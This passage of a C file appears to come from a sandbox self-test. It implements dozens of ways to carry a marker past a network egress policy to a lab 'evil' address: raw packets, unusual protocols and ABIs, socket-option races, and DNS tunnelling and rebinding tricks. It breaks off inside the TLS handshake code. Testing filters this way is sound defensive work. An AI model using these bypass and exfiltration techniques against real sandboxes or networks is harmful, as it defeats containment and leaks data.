/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * attacks.c - the ways out, one function for each idea, and the table of them all.
 *
 * A function carries the marker of its try out of the sandbox, or dies in the attempt. It does the
 * same outside, where the marker must arrive. It returns 0 if it thinks that it got through, the
 * -errno that stopped it, SP_TRY_NA if this host has not what it takes, or SP_TRY_BROKEN if what
 * the policy allows (a look-up, a connection to begin with) did not work: then nothing was tried.
 *
 * Nothing here makes the host load a kernel module: a protocol is only tried if it is there.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/netlink.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "selftest.h"

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif
#ifndef IPPROTO_DCCP
#define IPPROTO_DCCP 33
#endif
#ifndef UDP_SEGMENT
#define UDP_SEGMENT 103
#endif
#ifndef TCP_FASTOPEN_NO_COOKIE
#define TCP_FASTOPEN_NO_COOKIE 34
#endif
#ifndef SO_ZEROCOPY
#define SO_ZEROCOPY 60
#endif
#ifndef IPV6_FREEBIND
#define IPV6_FREEBIND 78
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_open 434
#define SYS_pidfd_getfd 438
#endif

/* ---- common --------------------------------------------------------------------------------- */

static void own_port(const struct sp_attack *a, enum sp_at at, struct sockaddr_storage *ret,
		     socklen_t *ret_len)
{
	sp_lab_address(a->technique->family ? a->technique->family : AF_INET, at,
		       (uint16_t)(SP_TRY_PORT + a->try.id), ret, ret_len);
}

/* The marker to the evil address, by a datagram socket that is there already. */
static int send_evil(struct sp_attack *a, int fd)
{
	struct sockaddr_storage to;
	socklen_t len;

	own_port(a, SP_AT_EVIL, &to, &len);
	return sendto(fd, a->try.marker, SP_MARKER_LEN, 0, (struct sockaddr *)&to, len) < 0 ? -errno
											    : 0;
}

/* The same by a connection. */
static int connect_at(struct sp_attack *a, enum sp_at at)
{
	int family = a->technique->family ? a->technique->family : AF_INET;
	int fd = sp_tcp_connect(family, at, (uint16_t)(SP_TRY_PORT + a->try.id)), r;

	if (fd < 0)
		return fd;
	r = sp_send_all(fd, a->try.marker, SP_MARKER_LEN);
	return r ? r : sp_reset_wait(a, fd);
}

/* Is a protocol known to this kernel? A socket of one that is not would load a module. */
static bool have_protocol(const char *name)
{
	FILE *file = fopen("/proc/net/protocols", "re");
	size_t len = strlen(name);
	char line[256];
	bool have = false;

	while (file && !have && fgets(line, sizeof(line), file))
		have = !strncmp(line, name, len) && line[len] == ' ';
	if (file)
		fclose(file);
	return have;
}

/* ---- bare addresses ------------------------------------------------------------------------- */

static int tcp_bare(struct sp_attack *a)
{
	return connect_at(a, SP_AT_EVIL);
}

enum { SENDTO, SEND, SENDMSG, SENDMMSG, WRITEV, SPLICE };

static int udp_splice(struct sp_attack *a, int fd)
{
	int fds[2];

	if (pipe2(fds, O_CLOEXEC) || write(fds[1], a->try.marker, SP_MARKER_LEN) != SP_MARKER_LEN)
		return sp_attack_broken(a, "pipe", -errno);
	return splice(fds[0], NULL, fd, NULL, SP_MARKER_LEN, 0) < 0 ? -errno : 0;
}

static int udp_bare(struct sp_attack *a)
{
	struct iovec data = {.iov_base = a->try.marker, .iov_len = SP_MARKER_LEN};
	struct sockaddr_storage to;
	struct mmsghdr many = {0};
	socklen_t len;
	ssize_t sent;
	int fd;

	own_port(a, SP_AT_EVIL, &to, &len);
	fd = socket(to.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return sp_attack_broken(a, "socket", -errno);
	many.msg_hdr = (struct msghdr){
		.msg_name = &to, .msg_namelen = len, .msg_iov = &data, .msg_iovlen = 1};
	if ((a->technique->way == SEND || a->technique->way == WRITEV ||
	     a->technique->way == SPLICE) &&
	    connect(fd, (struct sockaddr *)&to, len))
		return -errno;
	switch (a->technique->way) {
	case SEND:
		sent = send(fd, a->try.marker, SP_MARKER_LEN, 0);
		break;
	case SENDMSG:
		sent = sendmsg(fd, &many.msg_hdr, 0);
		break;
	case SENDMMSG:
		sent = sendmmsg(fd, &many, 1, 0);
		break;
	case WRITEV:
		sent = writev(fd, &data, 1);
		break;
	case SPLICE:
		return udp_splice(a, fd);
	default:
		sent = sendto(fd, a->try.marker, SP_MARKER_LEN, 0, (struct sockaddr *)&to, len);
	}
	return sent < 0 ? -errno : 0;
}

static int fastopen_bare(struct sp_attack *a)
{
	struct sockaddr_storage to;
	socklen_t len;
	int fd, on = 1;

	own_port(a, SP_AT_EVIL, &to, &len);
	fd = socket(to.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, &on, sizeof(on)))
		return sp_attack_na(a, "TCP_FASTOPEN_NO_COOKIE: %s", strerror(errno));
	if (sendto(fd, a->try.marker, SP_MARKER_LEN, MSG_FASTOPEN | MSG_NOSIGNAL,
		   (struct sockaddr *)&to, len) < 0)
		return errno == EOPNOTSUPP && !a->try.inside
			       ? sp_attack_na(a, "net.ipv4.tcp_fastopen is off")
			       : -errno;
	return 0;
}

static int uring_connect(struct sp_attack *a)
{
	struct io_uring_params p = {0};
	struct sockaddr_storage to;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqe;
	uint8_t *sq, *cq;
	socklen_t len;
	int ring, fd, r;

	own_port(a, SP_AT_EVIL, &to, &len);
	fd = socket(to.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	ring = (int)syscall(SYS_io_uring_setup, 1, &p);
	if (ring < 0)
		return a->try.inside ? -errno
				     : sp_attack_na(a, "io_uring_setup: %s", strerror(errno));
	sq = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(uint32_t), PROT_READ | PROT_WRITE,
		  MAP_SHARED, ring, IORING_OFF_SQ_RING);
	cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(*cqe), PROT_READ | PROT_WRITE,
		  MAP_SHARED, ring, IORING_OFF_CQ_RING);
	sqes = mmap(NULL, p.sq_entries * sizeof(*sqes), PROT_READ | PROT_WRITE, MAP_SHARED, ring,
		    IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED)
		return sp_attack_broken(a, "mmap of a ring", -errno);
	memset(sqes, 0, sizeof(*sqes));
	sqes[0].opcode = IORING_OP_CONNECT;
	sqes[0].fd = fd;
	sqes[0].addr = (uintptr_t)&to;
	sqes[0].off = len;
	((uint32_t *)(sq + p.sq_off.array))[0] = 0;
	__atomic_store_n((uint32_t *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -errno;
	cqe = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	r = cqe->res < 0 ? cqe->res : sp_send_all(fd, a->try.marker, SP_MARKER_LEN);
	return r ? r : sp_reset_wait(a, fd);
}

static int mptcp(struct sp_attack *a)
{
	struct linger reset = {.l_onoff = 1};
	struct sockaddr_storage to;
	socklen_t len;
	int fd, r;

	if (!a->try.inside && !have_protocol("MPTCP"))
		return sp_attack_na(a, "no MPTCP in this kernel");
	own_port(a, SP_AT_EVIL, &to, &len);
	fd = socket(to.ss_family, SOCK_STREAM | SOCK_CLOEXEC, IPPROTO_MPTCP);
	if (fd < 0)
		return a->try.inside ? -errno : sp_attack_na(a, "MPTCP: %s", strerror(errno));
	/* a peer that never closes keeps such a socket for a minute; the SYN has arrived by then */
	setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
	r = sp_tcp_connect_fd(fd, &to, len);
	return r ? r : sp_send_all(fd, a->try.marker, SP_MARKER_LEN);
}

/* ---- other sockets -------------------------------------------------------------------------- */

static uint16_t checksum(const uint8_t *data, size_t len)
{
	uint32_t sum = 0;

	for (size_t i = 0; i < len; i += 2)
		sum += (uint32_t)(data[i] << 8) + (i + 1 < len ? data[i + 1] : 0);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* An IPv4 packet with a datagram with the marker, from the near side to an evil port. */
static size_t ip_packet(const struct sp_attack *a, uint8_t buf[64])
{
	const size_t len = 20 + 8 + SP_MARKER_LEN;
	struct sockaddr_storage from, to;
	uint16_t sum, port = (uint16_t)(SP_TRY_PORT + a->try.id);
	socklen_t ignored;

	sp_lab_address(AF_INET, SP_AT_NEAR, 0, &from, &ignored);
	sp_lab_address(AF_INET, SP_AT_EVIL, 0, &to, &ignored);
	memset(buf, 0, 64);
	buf[0] = 0x45;
	buf[3] = (uint8_t)len;
	buf[8] = 64;
	buf[9] = IPPROTO_UDP;
	memcpy(buf + 12, &((struct sockaddr_in *)&from)->sin_addr, 4);
	memcpy(buf + 16, &((struct sockaddr_in *)&to)->sin_addr, 4);
	sum = checksum(buf, 20);
	buf[10] = (uint8_t)(sum >> 8);
	buf[11] = (uint8_t)sum;
	buf[20] = 0x40;
	buf[22] = (uint8_t)(port >> 8);
	buf[23] = (uint8_t)port;
	buf[25] = 8 + SP_MARKER_LEN;
	memcpy(buf + 28, a->try.marker, SP_MARKER_LEN);
	return len;
}

static size_t echo_packet(const struct sp_attack *a, int family, uint8_t buf[64])
{
	uint16_t sum;

	memset(buf, 0, 64);
	buf[0] = family == AF_INET ? 8 : 128;
	buf[7] = 1;
	memcpy(buf + 8, a->try.marker, SP_MARKER_LEN);
	if (family == AF_INET) {
		sum = checksum(buf, 8 + SP_MARKER_LEN);
		buf[2] = (uint8_t)(sum >> 8);
		buf[3] = (uint8_t)sum;
	}
	return 8 + SP_MARKER_LEN;
}

enum { RAW, HEADER, PING };

static int icmp(struct sp_attack *a)
{
	int family = a->technique->family, way = a->technique->way, fd;
	struct sockaddr_storage to;
	uint8_t packet[64];
	socklen_t to_len;
	size_t len;

	sp_lab_address(family, SP_AT_EVIL, 0, &to, &to_len);
	fd = socket(family, (way == PING ? SOCK_DGRAM : SOCK_RAW) | SOCK_CLOEXEC,
		    way == HEADER	? IPPROTO_RAW
		    : family == AF_INET ? IPPROTO_ICMP
					: IPPROTO_ICMPV6);
	if (fd < 0)
		return -errno;
	len = way == HEADER ? ip_packet(a, packet) : echo_packet(a, family, packet);
	return sendto(fd, packet, len, 0, (struct sockaddr *)&to, to_len) < 0 ? -errno : 0;
}

enum { PACKET, PACKET_OLD };

static int packet_socket(struct sp_attack *a)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET,
				 .sll_protocol = htons(ETH_P_IP),
				 .sll_ifindex = (int)if_nametoindex("eth0"),
				 .sll_halen = ETH_ALEN};
	struct sockaddr old = {.sa_family = AF_PACKET, .sa_data = "eth0"};
	uint8_t frame[ETH_HLEN + 64] = {0};
	size_t len = ip_packet(a, frame + ETH_HLEN);
	int fd;

	/* To everybody: the oracle looks at it, whoever it is for. */
	memset(to.sll_addr, 0xff, ETH_ALEN);
	memset(frame, 0xff, ETH_ALEN);
	frame[12] = ETH_P_IP >> 8;
	if (a->technique->way == PACKET_OLD) {
		fd = socket(AF_INET, SOCK_PACKET, htons(ETH_P_IP));
		if (fd < 0)
			return -errno;
		return sendto(fd, frame, ETH_HLEN + len, 0, &old, sizeof(old)) < 0 ? -errno : 0;
	}
	fd = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -errno;
	return sendto(fd, frame + ETH_HLEN, len, 0, (struct sockaddr *)&to, sizeof(to)) < 0 ? -errno
											    : 0;
}

static int other_protocol(struct sp_attack *a)
{
	static const struct {
		int protocol, type;
		const char *name; /* in /proc/net/protocols */
	} protocols[] = {
		{IPPROTO_UDPLITE, SOCK_DGRAM, "UDP-Lite"},
		{IPPROTO_SCTP, SOCK_STREAM, "SCTP"},
		{IPPROTO_DCCP, SOCK_DCCP, "DCCP"},
	};
	int type = protocols[a->technique->way].type, fd;
	const char *name = protocols[a->technique->way].name;
	struct sockaddr_storage to;
	socklen_t len;

	if (!a->try.inside && !have_protocol(name))
		return sp_attack_na(a, "%s is not loaded, and is not loaded for this", name);
	own_port(a, SP_AT_EVIL, &to, &len);
	fd = socket(AF_INET, type | SOCK_CLOEXEC | SOCK_NONBLOCK,
		    protocols[a->technique->way].protocol);
	if (fd < 0)
		return -errno;
	if (type == SOCK_DGRAM)
		return send_evil(a, fd);
	return connect(fd, (struct sockaddr *)&to, len) && errno != EINPROGRESS ? -errno : 0;
}

static int families(struct sp_attack *a)
{
	static const int types[] = {SOCK_DGRAM, SOCK_RAW, SOCK_STREAM, SOCK_SEQPACKET};
	int tried = 0, r = 0;

	for (int i = 0; i < 64; i++) {
		/* the packet family first: it is everywhere */
		int family = !i ? AF_PACKET : i == AF_PACKET ? 0 : i;

		if (family == AF_UNIX || family == AF_INET || family == AF_INET6 ||
		    family == AF_NETLINK)
			continue;
		for (size_t j = 0; j < sizeof(types) / sizeof(types[0]); j++) {
			int fd = socket(family, types[j] | SOCK_CLOEXEC, 0);

			if (fd >= 0) {
				snprintf(a->note, sizeof(a->note), "family %d opened", family);
				return 0;
			}
			r = r ? r : -errno;
			tried++;
		}
		/* Elsewhere a family that is not there would be looked for among the modules. */
		if (!a->try.inside || !a->try.enforcing)
			return r;
	}
	snprintf(a->note, sizeof(a->note), "%d kinds of sockets", tried);
	return r;
}

static int netlinks(struct sp_attack *a)
{
	int r = 0;

	for (int protocol = 1; protocol < 32; protocol++) {
		int fd;

		/* what every kernel has */
		if ((!a->try.inside || !a->try.enforcing) && protocol != NETLINK_KOBJECT_UEVENT)
			continue;
		fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, protocol);
		if (fd >= 0) {
			snprintf(a->note, sizeof(a->note), "protocol %d opened", protocol);
			return 0;
		}
		r = r ? r : -errno;
	}
	return r;
}

#ifdef __x86_64__
static void on_fault(int number)
{
	(void)number;
	_exit(9);
}

/* socket(AF_PACKET, SOCK_DGRAM, 0) of i386, in a child: without the ABI it is a fault. */
static int socket_i386(void)
{
	int status = 0;
	pid_t pid = fork();

	if (!pid) {
		long r;

		signal(SIGSEGV, on_fault);
		__asm__ volatile("int $0x80"
				 : "=a"(r)
				 : "0"(359L), "b"((long)AF_PACKET), "c"((long)SOCK_DGRAM), "d"(0L)
				 : "memory", "r8", "r9", "r10", "r11");
		_exit(r >= 0 ? 0 : r == -ENOSYS ? 9 : 1);
	}
	while (pid > 0 && waitpid(pid, &status, 0) < 0 && errno == EINTR)
		;
	return status;
}
#endif

enum { I386, X32 };

static int foreign_abi(struct sp_attack *a)
{
#ifdef __x86_64__
	int status;

	if (a->technique->way == X32) {
		if (syscall(0x40000000 | SYS_socket, AF_PACKET, SOCK_DGRAM, 0) >= 0)
			return 0;
		return errno == ENOSYS && !a->try.inside
			       ? sp_attack_na(a, "no x32 system calls in this kernel")
			       : -errno;
	}
	status = socket_i386();
	if (WIFSIGNALED(status)) {
		snprintf(a->note, sizeof(a->note), "SIG%s",
			 sigabbrev_np(WTERMSIG(status)) ? sigabbrev_np(WTERMSIG(status)) : "?");
		return -EACCES;
	}
	if (WEXITSTATUS(status) == 9 && !a->try.inside)
		return sp_attack_na(a, "no i386 system calls in this kernel");
	return WEXITSTATUS(status) ? -EPERM : 0;
#else
	return sp_attack_na(a, "not on this architecture");
#endif
}

/* ---- socket options ------------------------------------------------------------------------- */

/* A loose source route through the evil address (RFC 791). */
static const uint8_t source_route[8] = {0x83, 7, 4, 198, 18, 77, 66, 0};

/* Segment routing through the good address (RFC 8754). */
static size_t segment_route(uint8_t buf[24])
{
	struct sockaddr_storage to;
	socklen_t len;

	sp_lab_address(AF_INET6, SP_AT_EVIL, 0, &to, &len);
	memset(buf, 0, 24);
	buf[1] = 2;
	buf[2] = 4;
	memcpy(buf + 8, &((struct sockaddr_in6 *)&to)->sin6_addr, 16);
	return 24;
}

static const int one = 1;
/* Longer than a page: the kernel reads the value again after it was judged. */
static const int long_hops[2000] = {64};
static const char device[] = "eth0";

static const struct {
	int level, option;
	const void *value; /* NULL: the routing header */
	socklen_t len;
} options[] = {
	{IPPROTO_IP, IP_TTL, &one, sizeof(one)},
	{IPPROTO_IPV6, IPV6_UNICAST_HOPS, &one, sizeof(one)},
	{IPPROTO_IP, IP_OPTIONS, source_route, sizeof(source_route)},
	{IPPROTO_IPV6, IPV6_RTHDR, NULL, 0},
	{SOL_SOCKET, SO_BINDTODEVICE, device, sizeof(device)},
	{SOL_SOCKET, SO_MARK, &one, sizeof(one)},
	{SOL_SOCKET, SO_ZEROCOPY, &one, sizeof(one)},
	{IPPROTO_IP, IP_FREEBIND, &one, sizeof(one)},
	{IPPROTO_IPV6, IPV6_FREEBIND, &one, sizeof(one)},
	{IPPROTO_IP, IP_TRANSPARENT, &one, sizeof(one)},
	{IPPROTO_IP, IP_TTL, long_hops, sizeof(long_hops)},
	{IPPROTO_IPV6, IPV6_UNICAST_HOPS, long_hops, sizeof(long_hops)},
};

enum {
	TTL,
	HOPS6,
	IPOPTIONS,
	RTHDR,
	DEVICE,
	MARK,
	ZEROCOPY,
	FREEBIND,
	FREEBIND6,
	TRANSPARENT,
	TTL_LONG,
	HOPS6_LONG,
};

/* A datagram that is allowed, on a socket with an option that is not. */
static int option(struct sp_attack *a)
{
	int family = a->technique->family, way = a->technique->way, fd, r;
	const void *value = options[way].value;
	socklen_t len = options[way].len, to_len;
	struct sockaddr_storage to;
	uint8_t route[24];

	r = sp_resolve(family, "good.test");
	if (r)
		return sp_attack_broken(a, "look-up of an allowed name", r);
	sp_lab_address(family, SP_AT_GOOD, SP_UDP_PORT, &to, &to_len);
	fd = socket(family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return sp_attack_broken(a, "socket", -errno);
	if (!value) {
		value = route;
		len = (socklen_t)segment_route(route);
	}
	if (setsockopt(fd, options[way].level, options[way].option, value, len))
		return a->try.inside ? -errno
				     : sp_attack_na(a, "refused outside too: %s", strerror(errno));
	r = sendto(fd, a->try.marker, SP_MARKER_LEN, 0, (struct sockaddr *)&to, to_len) < 0 ? -errno
											    : 0;
	return r;
}

static int send_control(int fd, const struct sockaddr_storage *to, socklen_t to_len,
			struct iovec *data, int level, int type, const void *value, size_t len)
{
	union {
		char bytes[CMSG_SPACE(64)];
		struct cmsghdr align;
	} control = {0};
	struct msghdr message = {.msg_name = (void *)(uintptr_t)to,
				 .msg_namelen = to_len,
				 .msg_iov = data,
				 .msg_iovlen = 1,
				 .msg_control = control.bytes,
				 .msg_controllen = CMSG_SPACE(len)};
	struct cmsghdr *head = CMSG_FIRSTHDR(&message);

	head->cmsg_level = level;
	head->cmsg_type = type;
	head->cmsg_len = CMSG_LEN(len);
	memcpy(CMSG_DATA(head), value, len);
	return sendmsg(fd, &message, 0) < 0 ? -errno : 0;
}

/* The same options as a part of one message, which no setsockopt() hook sees. */
static int option_message(struct sp_attack *a)
{
	struct iovec data = {.iov_base = a->try.marker, .iov_len = SP_MARKER_LEN};
	int family = a->technique->family, fd, r;
	struct sockaddr_storage to;
	uint8_t route[24];
	socklen_t len;

	r = sp_resolve(family, "good.test");
	if (r)
		return sp_attack_broken(a, "look-up of an allowed name", r);
	sp_lab_address(family, SP_AT_GOOD, SP_UDP_PORT, &to, &len);
	fd = socket(family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return sp_attack_broken(a, "socket", -errno);
	segment_route(route);
	r = family == AF_INET ? send_control(fd, &to, len, &data, IPPROTO_IP, IP_RETOPTS,
					     source_route, sizeof(source_route))
			      : send_control(fd, &to, len, &data, IPPROTO_IPV6, IPV6_RTHDR, route,
					     sizeof(route));
	if (r && !a->try.inside)
		return sp_attack_na(a, "refused outside too: %s", strerror(-r));
	return r;
}

/* ---- DNS ------------------------------------------------------------------------------------ */

enum {
	Q_DENIED,
	Q_CLOSED,
	Q_CASE,
	Q_TWO,
	Q_TRAILING,
	Q_RECORD,
	Q_POINTER,
	Q_TYPE,
	Q_CHAOS,
	Q_RESPONSE,
	Q_LONG,
	Q_ALLOWED,
	Q_ALLOWED_CASE,
};

/* A query with the marker in it; what is wrong with it is told by `way`. */
static size_t query(const struct sp_attack *a, uint8_t buf[2048])
{
	/* name ".", type, class or size, TTL, length: of a TXT record; of an OPT record with an
	 * option of padding (RFC 7830), of 1,596 bytes */
	static const uint8_t text[] = {0, 0, 16, 0, 1, 0, 0, 0, 0, 0, SP_MARKER_LEN};
	static const uint8_t padding[] = {0, 0, 41, 4, 208, 0, 0, 0, 0, 6, 64, 0, 12, 6, 60};
	/* a pointer to behind the question, A, IN */
	static const uint8_t pointer[] = {0xc0, 18, 0, 1, 0, 1};
	char name[100];
	size_t len;

	snprintf(name, sizeof(name), "%s.nowhere.test", a->try.marker);
	switch (a->technique->way) {
	case Q_CASE:
	case Q_ALLOWED_CASE:
		snprintf(name, sizeof(name), "%s.%s.test", a->try.marker,
			 a->technique->way == Q_CASE ? "nowhere" : "wild");
		for (size_t i = 0; name[i]; i += 2)
			name[i] = (char)(name[i] >= 'a' ? name[i] - 0x20 : name[i]);
		break;
	case Q_ALLOWED:
	case Q_TYPE:
	case Q_CHAOS:
	case Q_RESPONSE:
		snprintf(name, sizeof(name), "%s.wild.test", a->try.marker);
		break;
	case Q_TWO:
	case Q_TRAILING:
	case Q_RECORD:
	case Q_LONG:
		len = sp_dns_question(buf, 7, "good.test", 1);
		if (a->technique->way == Q_TWO) {
			uint8_t second[200];
			size_t second_len = sp_dns_question(second, 7, name, 1) - 12;

			buf[5] = 2;
			memcpy(buf + len, second + 12, second_len);
			return len + second_len;
		}
		if (a->technique->way == Q_RECORD) {
			memcpy(buf + len, text, sizeof(text));
			buf[11] = 1;
			len += sizeof(text);
		} else if (a->technique->way == Q_LONG) {
			memcpy(buf + len, padding, sizeof(padding));
			memset(buf + len + 15, 0, 1596);
			memcpy(buf + len + 15, a->try.marker, SP_MARKER_LEN);
			buf[11] = 1;
			return len + 15 + 1596;
		}
		memcpy(buf + len, a->try.marker, SP_MARKER_LEN);
		return len + SP_MARKER_LEN;
	case Q_POINTER:
		/* the question is a pointer to a name behind it */
		sp_dns_question(buf, 7, "", 1);
		memcpy(buf + 12, pointer, sizeof(pointer));
		buf[18] = SP_MARKER_LEN;
		memcpy(buf + 19, a->try.marker, SP_MARKER_LEN);
		buf[19 + SP_MARKER_LEN] = 0;
		return 20 + SP_MARKER_LEN;
	}
	len = sp_dns_question(buf, 7, name, a->technique->way == Q_TYPE ? 10 /* NULL */ : 1);
	if (a->technique->way == Q_CHAOS)
		buf[len - 1] = 3;
	if (a->technique->way == Q_RESPONSE)
		buf[2] |= 0x80;
	return len;
}

static int dns_send(struct sp_attack *a, enum sp_at resolver)
{
	int family = a->technique->family, fd;
	struct sockaddr_storage to;
	uint8_t buf[2048];
	size_t len = query(a, buf);
	socklen_t to_len;

	sp_lab_address(family, resolver, 53, &to, &to_len);
	fd = socket(family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return sp_attack_broken(a, "socket", -errno);
	return sendto(fd, buf, len, 0, (struct sockaddr *)&to, to_len) < 0 ? -errno : 0;
}

static int dns_udp(struct sp_attack *a)
{
	/* sockets that are gone before anybody can answer (an ICMP error once carried the name) */
	if (a->technique->way == Q_CLOSED) {
		uint8_t buf[2048];
		struct sockaddr_storage to;
		size_t len = query(a, buf);
		socklen_t to_len;
		int r = 0;

		sp_lab_address(a->technique->family, SP_AT_RESOLVER, 53, &to, &to_len);
		for (int i = 0; i < 8 && !r; i++) {
			int fd = socket(to.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);

			if (fd < 0 || sendto(fd, buf, len, 0, (struct sockaddr *)&to, to_len) < 0)
				r = -errno;
			close(fd);
		}
		return r;
	}
	return dns_send(a, SP_AT_RESOLVER);
}

static int dns_elsewhere(struct sp_attack *a)
{
	return dns_send(a, SP_AT_RESOLVER2);
}

enum { T_DENIED, T_SPLIT, T_PIPELINED, T_BYTE, T_ALLOWED };

static int dns_tcp(struct sp_attack *a)
{
	int way = a->technique->way, fd, r;
	size_t good, len = 0, cut = 0;
	char name[100];
	uint8_t buf[600];

	if (way == T_PIPELINED) {
		good = sp_dns_question(buf + 2, 7, "good.test", 1);
		buf[0] = 0;
		buf[1] = (uint8_t)good;
		len = good + 2;
	}
	snprintf(name, sizeof(name), "%s.%s.test", a->try.marker,
		 way == T_ALLOWED ? "wild" : "nowhere");
	good = sp_dns_question(buf + len + 2, 8, name, 1);
	buf[len] = 0;
	buf[len + 1] = (uint8_t)good;
	len += good + 2;
	if (way == T_SPLIT) /* the length by itself */
		cut = 2;
	else if (way == T_BYTE)
		cut = 1;
	fd = sp_tcp_connect(a->technique->family, SP_AT_RESOLVER, 53);
	if (fd < 0)
		return sp_attack_broken(a, "connection to the resolver", fd);
	if (cut) {
		r = sp_send_all(fd, buf, cut);
		if (r)
			return r;
	}
	r = sp_send_all(fd, buf + cut, len - cut);
	return r ? r : sp_reset_wait(a, fd);
}

/* Two queries, an allowed and a denied one of equal length, as segments of one send. */
static int dns_segments(struct sp_attack *a)
{
	struct iovec data = {0};
	struct sockaddr_storage to;
	uint16_t size;
	uint8_t buf[600];
	char name[100];
	socklen_t len;
	size_t one_len;
	int fd, segment;

	one_len = sp_dns_question(buf, 7, "aaaaaaaaaaaaaaaaaaa.wild.test", 1);
	/* as long as the other: 16 and 10 bytes against 19 and 7 */
	snprintf(name, sizeof(name), "%s.nowhere.test", a->try.marker);
	if (sp_dns_question(buf + one_len, 8, name, 1) != one_len)
		return sp_attack_broken(a, "two queries of one length", -EINVAL);
	sp_lab_address(AF_INET, SP_AT_RESOLVER, 53, &to, &len);
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return sp_attack_broken(a, "socket", -errno);
	segment = (int)one_len;
	size = (uint16_t)one_len;
	data = (struct iovec){.iov_base = buf, .iov_len = 2 * one_len};
	if (a->technique->way)
		return send_control(fd, &to, len, &data, IPPROTO_UDP, UDP_SEGMENT, &size,
				    sizeof(size));
	if (setsockopt(fd, IPPROTO_UDP, UDP_SEGMENT, &segment, sizeof(segment)))
		return a->try.inside ? -errno : sp_attack_na(a, "UDP_SEGMENT: %s", strerror(errno));
	return sendto(fd, buf, 2 * one_len, 0, (struct sockaddr *)&to, len) < 0 ? -errno : 0;
}

/* Asks for an allowed name, then goes where its answer must not have led. */
static int taught(struct sp_attack *a)
{
	enum { HTTPS = 65 };
	static const struct {
		const char *name;
		enum sp_at at;
		uint16_t type;
		int family; /* of the look-up; 0: the technique's */
	} lessons[] = {
		{"private.test", SP_AT_PRIVATE, 0, 0}, {"mapped.test", SP_AT_PRIVATE, 28, 0},
		{"forged.test", SP_AT_EVIL, 0, 0},     {"extra.test", SP_AT_EVIL, 0, 0},
		{"hints.test", SP_AT_EVIL, HTTPS, 0},
	};
	int way = a->technique->way, family = a->technique->family, r;

	r = lessons[way].type
		    ? sp_resolve_at(SP_AT_RESOLVER, family, lessons[way].name, lessons[way].type)
		    : sp_resolve(family, lessons[way].name);
	/* "tls.ech": "strip", the default: the record is withheld, and must not teach either. */
	if (r == -ENOENT && lessons[way].type == HTTPS && a->try.inside && a->try.enforcing)
		r = 0;
	if (r)
		return sp_attack_broken(a, "look-up of an allowed name", r);
	return connect_at(a, lessons[way].at);
}

enum { L_PRIVATE, L_MAPPED, L_FORGED, L_EXTRA, L_HINTS };

static int bind_53(struct sp_attack *a)
{
	struct sockaddr_in to = {
		.sin_family = AF_INET, .sin_port = htons(53), .sin_addr.s_addr = htonl(0x7f000007)};
	struct sockaddr_in6 to6 = {.sin6_family = AF_INET6,
				   .sin6_port = htons(53),
				   .sin6_addr = IN6ADDR_LOOPBACK_INIT};
	bool v6 = a->technique->family == AF_INET6;
	int fd = socket(v6 ? AF_INET6 : AF_INET, a->technique->way | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return sp_attack_broken(a, "socket", -errno);
	return bind(fd, v6 ? (struct sockaddr *)&to6 : (struct sockaddr *)&to,
		    v6 ? sizeof(to6) : sizeof(to))
		       ? -errno
		       : 0;
}

/* ---- TLS ------------------------------------------------------------------------------------ */

enum {
	H_DENIED,
	H_NONE,
	H_TWO,
	H_TWICE,
	H_NUL,
	H_SUFFIX,
	H_SEGMENTS,
	H_RECORDS,
	H_EMPTY_RECORD,
	H_PLAIN,
	H_EVIL,
	H_ALLOWED,
	H_ALLOWED_SEGMENTS,
	H_ALLOWED_RECORDS,
};

/* The bytes of a handshake in `buf`, and where to cut them into two segments (0: nowhere). */
static size_t handshake(const struct sp_attack *a, int way, uint8_t buf[2048], size_t *ret_cut)
{
	static const uint8_t empty[] = {22, 3, 1, 0, 0}; /* a handshake record of no bytes */
	bool good = way >= H_EVIL;
	struct sp_hello hello = {.names = {good ? "one.test" : "two.test"}};
	size_t len, cut, at = 0;
	uint8_t message[1024];

	*ret_cut = 0;
	if (way == H_PLAIN)
		return (size_t)snprintf((char *)buf, 2048, "HELO %s\r\n", a->try.marker);
	if (way == H_NONE)
		hello.names[0] = NULL;
	if (way == H_TWO || way == H_TWICE) {
		hello.names[0] = "one.test";
		hello.names[1] = "two.test";
		hello.twice = way == H_TWICE;
	}
	if (way == H_NUL) {
		hello.names[0] = "one.test\0.two.test";
